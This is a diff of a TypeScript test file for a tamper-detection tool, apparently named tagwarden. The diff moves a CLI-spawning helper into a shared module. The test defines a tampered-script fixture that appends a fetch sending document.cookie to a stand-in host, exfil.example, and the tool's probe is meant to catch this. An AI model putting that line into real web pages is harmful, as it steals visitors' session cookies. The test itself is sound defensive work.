@@ -4,38 +4,16 @@
  * incident in miniature: an attacker on the path rewrites the origin's responses; the origin's own
  * inspector sees a clean page, the probe — which receives what visitors receive — catches it.
  */
-import { spawn } from 'node:child_process'
 import { createHash } from 'node:crypto'
 import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http'
 import { join } from 'node:path'
 import { gunzipSync, gzipSync } from 'node:zlib'
 import { Registry } from 'prom-client'
 import t, { type Test } from 'tap'
+import { tagwarden } from './helpers/cli.js'
 import { wrapHandler } from '../src/entries/embed.js'
 import { count, serve } from './helpers/embed.js'
 import { closeServer, listen } from './helpers/proxy.js'
-
-const MAIN = join(import.meta.dirname, '..', 'src', 'cli', 'main.ts')
-
-interface Result {
-  status: number | null
-  stdout: string
-  stderr: string
-}
-
-function tagwarden(args: string[]): Promise<Result> {
-  return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, ['--import', 'tsx', MAIN, ...args], {
-      stdio: ['ignore', 'pipe', 'pipe'],
-    })
-    let stdout = ''
-    let stderr = ''
-    child.stdout.on('data', (d: Buffer) => (stdout += d))
-    child.stderr.on('data', (d: Buffer) => (stderr += d))
-    child.on('error', reject)
-    child.on('close', (status) => resolve({ status, stdout, stderr }))
-  })
-}
 
 const LIB = 'window.lib = function () { return 42 }\n'
 const CHANGED_LIB = `${LIB}fetch('https://exfil.example/?c=' + document.cookie)\n`
